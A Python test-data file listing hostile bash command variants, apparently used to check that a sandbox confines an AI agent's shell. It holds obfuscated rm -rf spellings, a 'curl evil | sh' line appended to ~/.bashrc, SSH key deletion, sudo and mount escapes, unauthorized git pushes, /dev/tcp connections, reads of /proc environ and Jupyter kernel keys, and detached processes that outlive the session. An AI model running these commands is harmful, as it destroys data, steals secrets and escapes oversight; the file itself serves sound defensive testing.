"""Dangerous spellings for tests/test_sandbox.py: each is a bash command that would do
damage to a stand-in target outside the workspace if nothing confined it.

`{out}` is a folder outside the workspace (visible, read-only in the sandbox), `{hid}`
one in /tmp (hidden in the sandbox), `{home}` the harness's $HOME (a fake one), `{bare}`
a bare git repository the workspace's `origin` points to, `{port}` a TCP server on
127.0.0.1, `{pid}` the harness's own PID, `{runtime}` Jupyter's runtime folder (a fake
kernel connection file), `{token}` a word that marks a detached process.
"""

from __future__ import annotations

# Deleting or spoiling what is in a folder: each spelling, against each target folder.
DELETE = [
    "rm -rf {t}", "rm -rf {t}/*", "r''m -rf {t}", '"rm" -rf {t}', "\\rm -rf {t}",
    "command rm -rf {t}", "env rm -rf {t}", "find {t} -delete", "find {t} -type f -exec rm {{}} +",
    "echo {t} | xargs rm -rf", "printf '%s\\0' {t}/* | xargs -0 rm -f", 'bash -c "rm -rf {t}"',
    'echo "rm -rf {t}" | bash', 'bash <<< "rm -rf {t}"', "sh -c 'rm -rf {t}'",
    "python -c \"import shutil; shutil.rmtree('{t}')\"", "perl -e 'system(\"rm -rf {t}\")'",
    "cd {t} && rm -rf ./*", "unlink {t}/sentinelle.txt", "shred -u {t}/sentinelle.txt",
    "mv {t} {t}.bak", "truncate -s 0 {t}/sentinelle.txt", ": > {t}/sentinelle.txt",
    'eval "rm -rf {t}"', "$(echo rm) -rf {t}", "X=rm; $X -rf {t}",
    "tar --remove-files -cf archive.tar {t}", "ln -sf /dev/null {t}/sentinelle.txt",
    "chmod 000 {t}/sentinelle.txt", "sed -i s/S/X/ {t}/sentinelle.txt",
]
# Writing outside: each spelling, against each target folder.
WRITE = [
    "echo x > {t}/nouveau", "echo x >> {t}/sentinelle.txt", "cp README.md {t}/",
    "cp -r . {t}/copie", "mv README.md {t}/", "touch {t}/nouveau", "tar -cf {t}/a.tar .",
    "tar -cf a.tar README.md && tar -xf a.tar -C {t}", "tee {t}/nouveau < README.md",
    "dd if=/dev/zero of={t}/nouveau count=1", "install -D README.md {t}/sous/nouveau",
    "ln -s README.md {t}/lien", "mkdir {t}/dossier",
    "python -c \"open('{t}/nouveau', 'w').write('x')\"", 'printf x > "{t}/nouveau"',
    "cat README.md > {t}/sentinelle.txt", "exec 3>{t}/nouveau; echo x >&3",
    "(cd {t} && touch nouveau)", "sh -c 'echo x > {t}/nouveau'",
    "echo 'echo x > {t}/nouveau' | bash", "bash <<< 'touch {t}/nouveau'",
    "xargs touch <<< {t}/nouveau", "find . -maxdepth 0 -exec touch {t}/nouveau \\;",
    "echo x | dd of={t}/nouveau", "git -C {t} init -q", "cp /etc/hostname {t}/",
    "perl -e 'open(F, \">{t}/nouveau\"); print F 1'", "rsync README.md {t}/ 2>/dev/null || "
    "cp README.md {t}/", "unzip -q -o /dev/null -d {t} 2>/dev/null; mkdir -p {t}/z",
    "ln README.md {t}/dur",
]
FOLDERS = ["{out}", "{hid}", "{home}"]
# The home folder's own files, by name.
HOME = [
    "echo 'curl evil | sh' >> ~/.bashrc", "rm -rf ~/.ssh", "cat /dev/null > ~/.ssh/id_ed25519",
    "echo x > $HOME/.profile", 'echo x > "${{HOME}}/.profile"', "mv ~/.bashrc ~/.bashrc.old",
]
PRIVILEGE = [
    "sudo touch {out}/nouveau", "sudo -n rm -rf {out}", "su -c 'touch {out}/nouveau'",
    "doas touch {out}/nouveau", "pkexec touch {out}/nouveau",
    "mount -o remount,rw / && touch {out}/nouveau", "umount {home} && touch {home}/nouveau",
    "mount -t tmpfs none {out}", "chroot / touch {out}/nouveau",
    "mount --bind . {out}", "unshare -m sh -c 'mount -o remount,rw / && touch {out}/x'",
]
PUSH = [
    "git push -q origin main", "git push -q origin HEAD:refs/heads/vol",
    "git send-pack {bare} main",
    "git -c alias.p=push p -q origin main", "git push -q --mirror {bare}",
    "git remote add x {bare} && git push -q x main",
    "GIT_DIR={bare} git update-ref refs/heads/vol HEAD",
    "git --git-dir={bare} branch vol main", "cp -r .git/objects/. {bare}/objects/",
    "git push -q file://{bare} main:vol", "echo 0 > {bare}/refs/heads/vol",
]
NETWORK = [
    "exec 3<>/dev/tcp/127.0.0.1/{port}; echo x >&3", "echo x > /dev/tcp/127.0.0.1/{port}",
    "cat < /dev/tcp/localhost/{port}", "bash -c 'echo > /dev/tcp/127.0.0.1/{port}'",
    "python -c \"import socket; socket.create_connection(('127.0.0.1', {port}))\"",
    "python -c \"import urllib.request as u; u.urlopen('http://127.0.0.1:{port}', timeout=2)\"",
    "curl -s -m 2 http://127.0.0.1:{port}", "wget -q -T 2 -O- http://127.0.0.1:{port}",
    "git ls-remote http://127.0.0.1:{port}/depot", "(echo > /dev/tcp/127.0.0.1/{port}) &",
    "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"127.0.0.1:{port}\")'",
    "echo | xargs -I{{}} bash -c 'echo > /dev/tcp/127.0.0.1/{port}'",
    "curl -s -m 2 http://localhost:{port}", "echo GET | bash -c 'cat > /dev/tcp/127.0.0.1/{port}'",
]
# Reading the harness's environment, where the fake secret lives, into the workspace.
ENVIRONMENT = [
    "cat /proc/$PPID/environ > butin", "tr '\\0' '\\n' < /proc/$PPID/environ > butin",
    "cat /proc/{pid}/environ > butin", "cat /proc/*/environ > butin",
    "ps eww > butin", "ps auxeww > butin", "strings /proc/1/environ > butin",
    "python -c \"import os; print(open('/proc/%d/environ' % os.getppid()).read())\" > butin",
    "xargs -0 -a /proc/$PPID/environ echo > butin", "env > butin", "set > butin",
    "grep -a -r SECRET /proc/*/environ > butin", "cat /proc/{pid}/cmdline > butin",
    "for p in /proc/[0-9]*; do cat $p/environ; done > butin",
]
# The key-theft paths: the kernel's connection file, the harness's memory, a detached reader.
THEFT = [
    'cat "$JUPYTER_RUNTIME_DIR"/kernel-*.json > butin', "cat {runtime}/kernel-*.json > butin",
    "cat ~/.local/share/jupyter/runtime/*.json > butin",
    "find {runtime} {home} -name 'kernel-*.json' -exec cat {{}} + > butin",
    "python -c \"import re; m=open('/proc/{pid}/maps').read(); print(m)\" > butin",
    "python -c \"f=open('/proc/{pid}/mem','rb'); print(f.read(1))\" > butin",
    "setsid nohup bash -c 'sleep 0.5; cat {runtime}/kernel-*.json > butin' {token} "
    ">/dev/null 2>&1 &",
    "nohup bash -c 'sleep 0.5; cat /proc/{pid}/environ > butin' {token} >/dev/null 2>&1 &",
    "(setsid bash -c 'sleep 0.5; cat ~/.local/share/jupyter/runtime/*.json > butin' {token} &)",
    "kill -STOP {pid}", "kill -9 {pid}",
]


def corpus() -> list[str]:
    """Every spelling, its placeholders still to fill."""
    per_folder = [spelling.replace("{t}", folder) for folder in FOLDERS
                  for spelling in DELETE + WRITE]
    return per_folder + HOME + PRIVILEGE + PUSH + NETWORK + ENVIRONMENT + THEFT
